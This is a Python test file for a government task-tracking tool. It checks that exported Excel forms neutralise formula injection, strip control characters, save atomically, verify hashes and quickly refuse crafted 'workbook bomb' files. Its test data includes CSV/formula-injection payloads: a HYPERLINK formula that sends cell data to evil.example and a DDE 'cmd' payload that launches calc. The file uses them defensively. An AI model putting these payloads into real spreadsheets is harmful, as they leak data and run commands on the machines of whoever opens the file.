"""What goes out to units and what comes back: formulas stay text, control characters go,
a kept copy is checked, and a returned workbook too big for its size is refused fast."""

from __future__ import annotations

import io
import time
import zipfile

import openpyxl
import pytest

from govtrack import fileio
from govtrack.returns_io.layout import COL_INDEX, FIRST_DATA_ROW, DATA_SHEET, ID_SHEET
from govtrack.returns_io.reader import check_container, read_form

UNIT = "市财政局"
PERIOD = "2023-11"
HOSTILE = ['=HYPERLINK("http://evil.example/x?"&A1,"点此查看")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)"]


def _unit_task_ids(tr, unit):
    return [t["id"] for t in tr.ledger.tasks(unit=unit)][:len(HOSTILE) + 1]


def test_formula_looking_text_is_written_as_text(demo_tracker, tmp_path):
    ids = _unit_task_ids(demo_tracker, UNIT)
    for tid, text in zip(ids, HOSTILE):
        demo_tracker.db.execute("UPDATE tasks SET content = ? WHERE id = ?", [text, tid])
    demo_tracker.db.execute("UPDATE tasks SET content = ? WHERE id = ?",
                            ["推进\x0c项目\x1b[31m建设\x07。", ids[len(HOSTILE)]])
    (path,) = demo_tracker.returns.export_forms(PERIOD, tmp_path / "out", unit=UNIT)
    ws = openpyxl.load_workbook(path)[DATA_SHEET]
    cells = {ws.cell(r, COL_INDEX["content"]).value: ws.cell(r, COL_INDEX["content"])
             for r in range(FIRST_DATA_ROW, ws.max_row + 1)}
    for text in HOSTILE:
        assert cells[text].data_type == "s", text
        assert cells[text].quotePrefix
    assert "推进项目建设。" in cells                       # control characters removed
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    # and the form still comes back: its signed identity agrees with the cleaned texts
    form = read_form(path.read_bytes(), path.name, demo_tracker.returns._form_secret(create=False))
    assert form.ok, form.errors


def test_unit_name_that_looks_like_a_formula(demo_tracker, tmp_path):
    demo_tracker.db.execute("UPDATE units SET name = '=1+1' WHERE name = ?", [UNIT])
    (path,) = demo_tracker.returns.export_forms(PERIOD, tmp_path / "out", unit="=1+1")
    wb = openpyxl.load_workbook(path)
    assert wb[DATA_SHEET]["C3"].value == "=1+1" and wb[DATA_SHEET]["C3"].data_type == "s"
    assert wb[ID_SHEET]["B2"].data_type == "s"


def test_export_is_atomic(demo_tracker, tmp_path, monkeypatch):
    out = tmp_path / "out"
    (first,) = demo_tracker.returns.export_forms(PERIOD, out, unit=UNIT)
    before = first.read_bytes()

    def dies(self, filename):
        with open(filename, "wb") as f:
            f.write(b"PK\x03\x04half")
        raise KeyboardInterrupt("killed while saving")

    monkeypatch.setattr(openpyxl.Workbook, "save", dies)
    with pytest.raises(KeyboardInterrupt):
        demo_tracker.returns.export_forms(PERIOD, out, unit=UNIT)
    assert first.read_bytes() == before
    assert sorted(p.name for p in out.iterdir()) == [first.name]


def test_kept_copy_is_checked_against_its_hash(tmp_path):
    import hashlib
    data = "任务分解".encode("utf-8") * 100
    sha = hashlib.sha256(data).hexdigest()
    target = tmp_path / "files" / "copy.txt"
    target.parent.mkdir()
    target.write_bytes(data[:50])                        # a half copy left by an older version
    fileio.keep_copy(data, target, sha)
    assert target.read_bytes() == data
    with pytest.raises(Exception) as e:
        fileio.keep_copy(data, tmp_path / "files" / "x.txt", "0" * 64)
    assert "校验" in str(e.value)
    assert not (tmp_path / "files" / "x.txt").exists()


def _workbook_with(sheet_xml_extra: str, cells: str = '<c r="A1" t="inlineStr"><is><t>x</t></is></c>') -> bytes:
    """A minimal xlsx whose sheet has ``cells`` in row 1 and ``sheet_xml_extra`` after sheetData."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   '<Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                   '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                   '</Types>')
        z.writestr("_rels/.rels",
                   '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
                   '</Relationships>')
        z.writestr("xl/workbook.xml",
                   '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                   'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                   '<sheets><sheet name="进展填报" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels",
                   '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                   '</Relationships>')
        z.writestr("xl/worksheets/sheet1.xml",
                   '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                   f'<sheetData><row r="1">{cells}</row></sheetData>{sheet_xml_extra}</worksheet>')
    return buf.getvalue()


@pytest.mark.parametrize("extra,cells,why", [
    ('<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>', None, "行"),
    ('<mergeCells count="1"><mergeCell ref="A2:CV3000"/></mergeCells>', None, "合并单元格"),
    ("", '<c r="A1048576" t="inlineStr"><is><t>x</t></is></c>', "1048576"),
    ("", '<c r="XFD1" t="inlineStr"><is><t>x</t></is></c>', "列"),
    ('<mergeCells count="3000">' + "".join(f'<mergeCell ref="A{r}:B{r}"/>' for r in range(2, 3002))
     + "</mergeCells>", None, "合并单元格超过"),
])
def test_workbook_bombs_are_refused_fast(extra, cells, why):
    data = _workbook_with(extra, cells) if cells else _workbook_with(extra)
    assert len(data) < 30_000
    t0 = time.monotonic()
    problem = check_container(data)
    form = read_form(data, "bomb.xlsx", "secret")
    assert time.monotonic() - t0 < 1.0
    assert problem and why in problem and "拒绝读取" in problem
    assert not form.ok and form.errors == [problem]


def test_a_real_exported_form_passes_the_extent_check(demo_tracker, tmp_path):
    (path,) = demo_tracker.returns.export_forms(PERIOD, tmp_path / "out", unit=UNIT)
    assert check_container(path.read_bytes()) is None


def test_a_zip_entry_with_an_impossible_version_is_refused_not_raised(demo_tracker, tmp_path):
    (path,) = demo_tracker.returns.export_forms(PERIOD, tmp_path / "out", unit=UNIT)
    data = bytearray(path.read_bytes())
    cd = data.rfind(b"PK\x01\x02")                      # last central directory entry
    data[cd + 6:cd + 8] = (196).to_bytes(2, "little")   # "needs zip version 19.6"
    problem = check_container(bytes(data))
    assert problem and "损坏" in problem
